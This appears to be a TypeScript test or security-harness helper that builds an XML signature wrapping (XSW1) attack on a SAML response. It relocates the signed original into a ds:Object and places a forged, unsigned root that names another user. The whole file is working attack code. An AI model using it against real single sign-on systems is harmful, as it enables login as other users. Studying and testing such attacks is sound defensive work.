import { newId } from './response.ts';

/**
 * XML signature wrapping (XSW 1 of Somorovsky et al., 2012): a new, unsigned root says another NameID, and the
 * genuine response moves whole into ds:Object of its own signature, where the reference still finds it by ID.
 */
export function wrapResponse(xml: string, nameId: string, forged: string): string {
  const open = xml.indexOf('<ds:Signature');
  const endTag = '</ds:Signature>';
  const close = xml.indexOf(endTag, open) + endTag.length;
  const signature = xml.slice(open, close);
  const genuine = xml.slice(0, open) + xml.slice(close);
  const carrier = signature.replace(endTag, () => `<ds:Object>${genuine}</ds:Object>${endTag}`);
  const [responseId, assertionId] = [
    ...genuine.matchAll(/<saml(?:p:Response|:Assertion)\b[^>]* ID="([^"]+)"/g),
  ].map((m) => m[1] ?? '');
  const evil = genuine
    .replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, '')
    .replaceAll(String(responseId), newId())
    .replaceAll(String(assertionId), newId())
    .replaceAll(`>${nameId}<`, `>${forged}<`);
  const afterIssuer = evil.indexOf('</saml:Issuer>') + '</saml:Issuer>'.length;
  return evil.slice(0, afterIssuer) + carrier + evil.slice(afterIssuer);
}
